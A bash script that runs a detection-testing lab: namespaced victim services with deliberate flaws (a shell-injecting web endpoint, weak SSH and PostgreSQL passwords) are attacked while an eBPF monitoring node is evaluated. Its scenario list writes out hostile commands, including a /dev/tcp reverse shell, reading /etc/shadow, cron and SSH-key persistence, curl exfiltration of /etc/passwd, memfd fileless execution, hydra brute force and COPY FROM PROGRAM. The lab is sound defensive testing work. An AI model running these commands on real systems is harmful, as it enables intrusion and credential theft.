#!/usr/bin/env bash
# The host lab: a victim service with a flaw, a benign workload, and attack
# scenarios through the flaw with real programs, watched by a daisi node
# whose host baselines learn first. Run as root (eBPF, namespaces).
#
#   lab/host.sh run OUT [--learn 60s] [--benign 120s] [--scenarios a,b,...]
#                       [--rules DIR]
#       learns for --learn while the benign workload runs, keeps the
#       benign workload alone for --benign (false alarms), then runs each
#       scenario; writes OUT/alerts.jsonl, OUT/phases.jsonl and the node's
#       log, then prints `daisi eval host` for them; splits the services'
#       logs by phase (OUT/logs/), trains a log model on the learning
#       phase's (`daisi train logs`) and prints `daisi eval logs` with it
#       for the rest. --rules loads Sigma rules into the node; the node's
#       CPU time goes to OUT/node-cpu-ticks.
#   lab/host.sh scenarios     the scenario names
#
# The victim services (lab/host/services.sh) run in mount and pid
# namespaces of their own, where the persistence paths, homes, account
# files and data directories are scratch copies: nothing lands on this
# machine, and everything ends with the lab. They are a web application
# whose /ping passes its parameter to a shell (lab/host/victim.py), sshd
# with an administrator's key login and a support account with a weak
# password, PostgreSQL whose superuser has a weak password, and a
# scheduler (backups, a database dump, log rotation) and, when the learning
# phase is 4 minutes or longer, cron running a clean-up and package runs
# (dpkg in a scratch root). The benign workload
# is the application's traffic with variety (it goes on during the attacks),
# its database queries, and an administrator's SSH sessions running everyday
# commands (uptime, df, ps,
# ls, dpkg, id, who, tail). All traffic is on 127.0.0.1; every request
# and loop is bounded in count and time.
#
# Environment: DAISI_BIN (default target/release/daisi, else debug).
set -euo pipefail
cd "$(dirname "$0")/.."

SCENARIOS=(reverse_shell credential_theft persistence_cron persistence_ssh privilege_escalation exfiltration fileless miner seen_programs_only ssh_weak_password database_command_execution)

log() { printf '[host-lab] %s\n' "$*" >&2; }
die() { log "error: $*"; exit 1; }

# The workload's tools (sql, admin, get, inject, benign...).
. lab/host/lib.sh

scenario() { # $1 = name: the attack's steps through the flaw
  case "$1" in
    reverse_shell) inject "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$APORT; echo id >&3; sleep 1'" ;;
    credential_theft) inject "cat /etc/shadow" ;;
    persistence_cron) inject "echo '* * * * * root /tmp/.x' > /etc/cron.d/update" ;;
    persistence_ssh) inject "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAlab attacker' >> /root/.ssh/authorized_keys" ;;
    privilege_escalation) inject "find / -xdev -maxdepth 3 -perm -4000 -type f 2>/dev/null | head -5; su -s /bin/sh -c id nobody" ;;
    exfiltration) inject "curl -s --max-time 3 -T /etc/passwd http://127.0.0.1:$APORT/loot" ;;
    fileless) inject "python3 -c \"import os; fd = os.memfd_create('k'); os.write(fd, b'#!/bin/sh\\necho hi\\n'); os.execv('/proc/self/fd/%d' % fd, ['k'])\"" ;;
    miner) inject "timeout 3 sh -c 'while :; do :; done'" ;;
    # Programs the baseline has seen (the shell), on a file it has not.
    seen_programs_only) inject "read line < /etc/shadow" ;;
    # A weak password guessed over SSH, then a session as that account,
    # which tries sudo with the same password (refused: not in sudoers).
    ssh_weak_password)
      ATTACK_USERS=(support)
      timeout 60 hydra -q -f -t 4 -l support -P "$LAB/words" -s "$SSHPORT" 127.0.0.1 ssh >/dev/null 2>&1 || true
      SSH_ASKPASS="$LAB/askpass" SSH_ASKPASS_REQUIRE=force DISPLAY=: timeout 20 setsid -w ssh "${SSH_OPTS[@]}" \
        -o PubkeyAuthentication=no -o PreferredAuthentications=password -p "$SSHPORT" support@127.0.0.1 \
        "id; uname -a; ls -la /home; cat /etc/passwd; echo $SUPPORT_PASSWORD | sudo -S -p '' id" </dev/null >/dev/null 2>&1 || true ;;
    # The database superuser's weak password guessed, then a command run
    # by the database server (COPY ... FROM PROGRAM).
    database_command_execution)
      # hydra's postgres module gives libpq the host but not -s: PGPORT is
      # the port its attempts reach.
      PGPORT="$PGPORT" timeout 60 hydra -q -f -t 2 -l postgres -P "$LAB/words" -s "$PGPORT" 127.0.0.1 postgres >/dev/null 2>&1 || true
      MARKERS=("id; uname -a")
      sql "CREATE TEMP TABLE o (line text); COPY o FROM PROGRAM 'id; uname -a'; SELECT * FROM o" >/dev/null 2>&1 || true ;;
    *) die "no scenario $1" ;;
  esac
}

run() {
  local out="" learn=60 benign_s=120 only="" rules=""
  while [ $# -gt 0 ]; do
    case "$1" in
      --learn) learn="${2%s}"; shift 2 ;;
      --benign) benign_s="${2%s}"; shift 2 ;;
      --scenarios) only="$2"; shift 2 ;;
      --rules) rules="$2"; shift 2 ;;
      *) out="$1"; shift ;;
    esac
  done
  [ -n "$out" ] || die "usage: lab/host.sh run OUT [--learn 60s] [--benign 120s] [--scenarios a,b]"
  [ "$(id -u)" -eq 0 ] || die "the host lab needs root (eBPF, a mount namespace)"
  [ -n "$BIN" ] || die "no daisi binary: build it (cargo build --release) or set DAISI_BIN"
  for t in python3 curl unshare bash su sudo find timeout ssh ssh-keygen hydra psql pg_dump setpriv openssl; do
    command -v "$t" >/dev/null || die "missing tool: $t (run scripts/setup.sh)"
  done
  local list=("${SCENARIOS[@]}")
  [ -z "$only" ] || IFS=, read -r -a list <<<"$only"
  mkdir -p "$out"
  out="$(cd "$out" && pwd)"
  rm -f "$out/alerts.jsonl" "$out/phases.jsonl"
  rm -rf "$out/baselines" "$out/logs" "$out/log-registry"
  VPORT=$(free_port)
  APORT=$(free_port)
  SSHPORT=$(free_port)
  PGPORT=$(free_port)
  PIDS=()
  VICTIM=""
  # The services' namespace ends with its first process: SIGKILL, as its
  # init ignores SIGTERM from outside.
  trap 'kill "${PIDS[@]}" 2>/dev/null || true; [ -z "$VICTIM" ] || kill -KILL "$VICTIM" 2>/dev/null || true; wait 2>/dev/null || true' EXIT

  # The attacker's listener (loopback): takes what is sent, bounded.
  python3 - "$APORT" <<'EOF' &
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(16); s.settimeout(1)
end = time.time() + 3600
while time.time() < end:
    try:
        c, _ = s.accept(); c.settimeout(2)
        try:
            while c.recv(65536): pass
        except OSError: pass
        c.close()
    except socket.timeout: pass
EOF
  PIDS+=($!)

  # The victim services (lab/host/services.sh), in mount and pid
  # namespaces of their own, and what they need from here: the SSH host key, the
  # administrator's key, the weak passwords.
  local lab="$out/lab"
  rm -rf "$lab"
  mkdir -p "$lab"
  chmod 700 "$lab"
  ssh-keygen -q -t ed25519 -N '' -f "$lab/ssh_host_ed25519_key"
  ssh-keygen -q -t ed25519 -N '' -f "$lab/admin_key"
  echo "$SUPPORT_PASSWORD" >"$lab/support.password"
  echo "$PG_PASSWORD" >"$lab/postgres.password"
  printf '#!/bin/sh\necho %s\n' "$SUPPORT_PASSWORD" >"$lab/askpass"
  chmod 700 "$lab/askpass"
  # The attacker's word list: common passwords, the two weak ones among them.
  printf '%s\n' 123456 password admin letmein qwerty "$SUPPORT_PASSWORD" welcome "$PG_PASSWORD" >"$lab/words"
  # Cron and package runs join the workload when the learning phase holds
  # a few of their runs (every minute, every 2 minutes).
  local scheduled=0
  if [ "$learn" -ge 240 ]; then
    scheduled=1
    busybox crond --help >/dev/null 2>&1 || die "busybox has no crond (run scripts/setup.sh: busybox-static)"
  fi
  unshare -m -p --fork --kill-child --mount-proc --propagation private lab/host/services.sh "$lab" "$VPORT" "$SSHPORT" "$PGPORT" "$scheduled" &
  local victim=$!
  VICTIM=$victim
  LAB="$lab"
  for _ in $(seq 200); do curl -fs -o /dev/null "http://127.0.0.1:$VPORT/" && break; sleep 0.1; done
  curl -fs -o /dev/null "http://127.0.0.1:$VPORT/" || die "the victim did not start"
  for _ in $(seq 100); do sql "SELECT 1" >/dev/null 2>&1 && break; sleep 0.1; done
  sql "CREATE TABLE items (id serial PRIMARY KEY, name text, at timestamptz DEFAULT now())" >/dev/null \
    || die "PostgreSQL did not start: $(tail -5 "$lab/postgres.log" "$lab/initdb.log")"
  admin uptime >/dev/null || die "sshd did not take the administrator's key: $(tail -5 "$lab/sshd.log")"

  PGLOG="/proc/$victim/root/srv/daisi-lab-pg/log/postgresql.json"
  cat >"$out/node.toml" <<EOF
[node]
role = "both"
host = "host-lab"
[syscall_source]
kind = "ebpf"
pids = [$victim]
[syscall_batcher]
max_wait = "200ms"
[baseline]
dir = "$out/baselines"
learn_for = "${learn}s"
save_every = "5s"
[alert]
console = false
jsonl = "$out/alerts.jsonl"
cooldown = "3s"
# The services' logs: sshd's and crond's (with syslog headers), sudo's,
# dpkg's, the web application's access log, PostgreSQL's (JSON lines, in
# the services' mount namespace: read through the victim's root).
[[log_source]]
name = "lab"
kind = "file"
paths = ["$lab/auth.log", "$lab/sudo.log", "$lab/cron.log", "$lab/dpkg.log", "$lab/access.log", "$PGLOG"]
from_start = true
registry_dir = "$out/log-registry"
EOF
  if [ -n "$rules" ]; then
    printf '[rules]\npaths = ["%s"]\n' "$(cd "$rules" && pwd)" >>"$out/node.toml"
  fi
  "$BIN" run --config "$out/node.toml" 2>"$out/node.log" &
  local node=$!
  PIDS+=($node)
  for _ in $(seq 200); do grep -q "node running" "$out/node.log" && break; sleep 0.1; done
  grep -q "node running" "$out/node.log" || { cat "$out/node.log" >&2; die "the node did not start"; }

  phase() { printf '{"phase":"%s","kind":"%s","start_ns":%s,"end_ns":%s%s}\n' "$1" "$2" "$3" "$4" "${5:-}" >>"$out/phases.jsonl"; }
  log "learning for ${learn}s (benign workload)"
  admin_sessions &
  PIDS+=($!)
  local t0; t0=$(now_ns)
  benign $(($(date +%s) + learn + 2))
  phase learning learning "$t0" "$(now_ns)"
  log "benign only for ${benign_s}s"
  t0=$(now_ns)
  benign $(($(date +%s) + benign_s))
  phase benign benign "$t0" "$(now_ns)"
  # The application stays busy while it is attacked.
  benign $(($(date +%s) + 3600)) &
  local busy=$!
  PIDS+=($busy)
  for s in "${list[@]}"; do
    log "scenario $s"
    t0=$(now_ns)
    MARKERS=()
    ATTACK_USERS=()
    scenario "$s"
    sleep 6 # past the tree's quiet time: each scenario is its own incident
    phase "$s" attack "$t0" "$(now_ns)" "$(attribution_json)"
  done
  kill "$busy" 2>/dev/null || true
  # The node's CPU time (user + system, clock ticks) over the whole run.
  awk '{print $14 + $15}' "/proc/$node/stat" >"$out/node-cpu-ticks"
  kill -TERM "$node"
  wait "$node" || true
  "$BIN" eval host --alerts "$out/alerts.jsonl" --phases "$out/phases.jsonl"
  # The same run's logs, alone: split by phase; a model of the learning
  # phase's logs (shapes, rates, order), then the log detector with it on
  # the rest.
  local attacks
  mapfile -t attacks < <(python3 lab/host/logs.py split "$out/phases.jsonl" "$out/logs" \
    "$lab/auth.log" "$lab/sudo.log" "$lab/cron.log" "$lab/dpkg.log" "$lab/access.log.1" "$lab/access.log" "$PGLOG")
  echo
  "$BIN" train logs --out "$out/logs/model/templates.bin" "$out/logs/learning.log"
  local args=(--model "$out/logs/model/templates.bin" --benign "$out/logs/benign.log")
  for a in "${attacks[@]}"; do args+=(--attack "$a"); done
  echo
  "$BIN" eval logs "${args[@]}"
}

case "${1:-}" in
  run) shift; run "$@" ;;
  scenarios) printf '%s\n' "${SCENARIOS[@]}" ;;
  *) sed -n '2,20p' "$0" | sed 's/^# \{0,1\}//'; exit 2 ;;
esac
